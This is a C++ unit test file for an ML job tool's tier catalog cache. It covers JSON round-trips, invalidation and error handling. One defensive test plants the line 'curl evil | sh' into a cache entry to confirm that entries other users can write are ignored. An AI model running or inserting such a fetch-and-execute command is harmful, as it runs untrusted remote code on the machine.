#include "tiers/catalog_cache.h"

#include <gtest/gtest.h>

#include <fstream>

#include "base/test_support.h"
#include "tiers/catalog_loader.h"

namespace mljob::tiers {
namespace {

namespace fs = std::filesystem;
using std::chrono::seconds;

TEST(CatalogCache, TheStockCatalogsSurviveTheRoundTrip) {
  for (const char* file : {"etc/tiers.yaml", "contrib/cluster/tiers.yaml"}) {
    TierCatalog catalog = load_catalog(fs::path(MLJOB_SOURCE_DIR) / file);
    EXPECT_EQ(catalog_from_json(catalog_to_json(catalog)), catalog) << file;
  }
}

TEST(CatalogCache, EveryFieldSurvivesTheRoundTrip) {
  // Every field set to something other than its default, so that the comparison (all fields,
  // operator== = default) notices any the cache leaves out.
  mljob::testing::ScratchFolder scratch("mljob-catalog-cache-fields");
  const fs::path& dir = scratch.path();
  std::ofstream(dir / "tiers.yaml") << R"(machineTypes:
  m: {cpus: 3, memory: 5G, accelerator: {type: G, count: 2}, partition: p, constraint: c, qos: q,
      account: a, defaultTime: "1:00:00", maxTime: "2:00:00", legacy: true}
acceleratorTypes:
  G: {gres: g}
scaleTiers:
  T: {master: {machineType: m, accelerator: {type: G, count: 1}}, worker: {machineType: m, count: 2},
      parameterServer: {machineType: m, count: 1}}
runtimes:
  default: {python: /opt/py, setup: "module load x"}
  "1.0": {refuse: "too old"}
logs: {maxBytesPerJob: 3G}
)";
  TierCatalog catalog = load_catalog(dir / "tiers.yaml");
  EXPECT_TRUE(catalog.machine_types.at("m").legacy);
  EXPECT_EQ(catalog.max_log_bytes_per_job, 3ull << 30);
  EXPECT_EQ(catalog.runtimes.at("1.0").refusal, "too old");
  EXPECT_EQ(catalog_from_json(catalog_to_json(catalog)), catalog);
}

TEST(CatalogCache, ServesAnUnchangedCatalogAndRereadsAChangedOne) {
  mljob::testing::ScratchFolder scratch("mljob-catalog-cache-serve");
  const fs::path& dir = scratch.path();
  fs::path cache = dir / "cache";
  std::ofstream(dir / "base.yaml")
      << "machineTypes:\n  m: {cpus: 1, memory: 1G}\nscaleTiers:\n  BASIC: {master: {machineType: m}}\n";
  std::ofstream(dir / "site.yaml") << "extends: base.yaml\nmachineTypes:\n  m: {cpus: 2, memory: 1G}\n";
  EXPECT_EQ(load_catalog_cached(dir / "site.yaml", cache, seconds(0)).machine_types.at("m").cpus, 2);
  ASSERT_EQ(std::distance(fs::directory_iterator(cache), fs::directory_iterator()), 1);
  fs::path entry = fs::directory_iterator(cache)->path();

  // Served from the entry: an edit of the entry itself (not of the catalog) shows.
  std::ifstream in(entry);
  nlohmann::json held = nlohmann::json::parse(in);
  held["catalog"]["machineTypes"]["m"]["cpus"] = 7;
  std::ofstream(entry) << held.dump();
  EXPECT_EQ(load_catalog_cached(dir / "site.yaml", cache, seconds(0)).machine_types.at("m").cpus, 7);

  // The extended file changes: the entry no longer matches, the YAML is read again.
  std::ofstream(dir / "base.yaml") << "machineTypes:\n  m: {cpus: 1, memory: 1G}\n  n: {cpus: 4, memory: 1G}\n";
  TierCatalog reread = load_catalog_cached(dir / "site.yaml", cache, seconds(0));
  EXPECT_EQ(reread.machine_types.at("m").cpus, 2);
  EXPECT_EQ(reread.machine_types.at("n").cpus, 4);
  EXPECT_EQ(reread, load_catalog(dir / "site.yaml"));

  // A damaged entry is no entry.
  std::ofstream(entry) << "{not json";
  EXPECT_EQ(load_catalog_cached(dir / "site.yaml", cache, seconds(0)), load_catalog(dir / "site.yaml"));
}

// A runtime's `setup` line from the cache goes into job.sbatch: an entry that another user could
// have written is not read (it is replaced by a private one), and a cache folder others may
// write is neither read nor written.
TEST(CatalogCache, AnEntryOthersMayWriteIsNotUsed) {
  mljob::testing::ScratchFolder scratch("mljob-catalog-cache-untrusted");
  const fs::path& dir = scratch.path();
  fs::path cache = dir / "cache";
  std::ofstream(dir / "tiers.yaml")
      << "machineTypes:\n  m: {cpus: 1, memory: 1G}\nruntimes:\n  default: {setup: \"module load x\"}\n";
  auto setup = [&] { return load_catalog_cached(dir / "tiers.yaml", cache, seconds(0)).runtimes.at("default").setup; };
  EXPECT_EQ(setup(), "module load x");
  ASSERT_EQ(std::distance(fs::directory_iterator(cache), fs::directory_iterator()), 1);
  fs::path entry = fs::directory_iterator(cache)->path();
  auto held_setup = [&] {
    std::ifstream in(entry);
    return nlohmann::json::parse(in)["catalog"]["runtimes"]["default"]["setup"].get<std::string>();
  };
  auto plant = [&] {
    std::ifstream in(entry);
    nlohmann::json held = nlohmann::json::parse(in);
    held["catalog"]["runtimes"]["default"]["setup"] = "curl evil | sh";
    std::ofstream(entry) << held.dump();
  };
  plant();
  ASSERT_EQ(setup(), "curl evil | sh");  // the entry is what is read

  fs::permissions(entry, fs::perms::group_write, fs::perm_options::add);
  EXPECT_EQ(setup(), "module load x");
  EXPECT_EQ(held_setup(), "module load x");
  EXPECT_EQ(fs::status(entry).permissions(), fs::perms::owner_read | fs::perms::owner_write);

  plant();
  fs::permissions(cache, fs::perms::others_write, fs::perm_options::add);
  EXPECT_EQ(setup(), "module load x");
  EXPECT_EQ(held_setup(), "curl evil | sh");  // not written either
}

TEST(CatalogCache, AFileChangedMomentsAgoIsNotCached) {
  mljob::testing::ScratchFolder scratch("mljob-catalog-cache-racy");
  const fs::path& dir = scratch.path();
  std::ofstream(dir / "tiers.yaml") << "machineTypes:\n  m: {cpus: 1, memory: 1G}\n";
  load_catalog_cached(dir / "tiers.yaml", dir / "cache");  // the default: 2 s to settle
  EXPECT_FALSE(fs::exists(dir / "cache") && !fs::is_empty(dir / "cache"));
}

TEST(CatalogCache, ErrorsAreTheLoadersAndNothingIsCached) {
  mljob::testing::ScratchFolder scratch("mljob-catalog-cache-errors");
  const fs::path& dir = scratch.path();
  std::ofstream(dir / "tiers.yaml") << "scaleTiers:\n  BASIC: {master: {machineType: nope}}\n";
  EXPECT_THROW(load_catalog_cached(dir / "tiers.yaml", dir / "cache", seconds(0)), CatalogError);
  EXPECT_FALSE(fs::exists(dir / "cache"));
}

}  // namespace
}  // namespace mljob::tiers
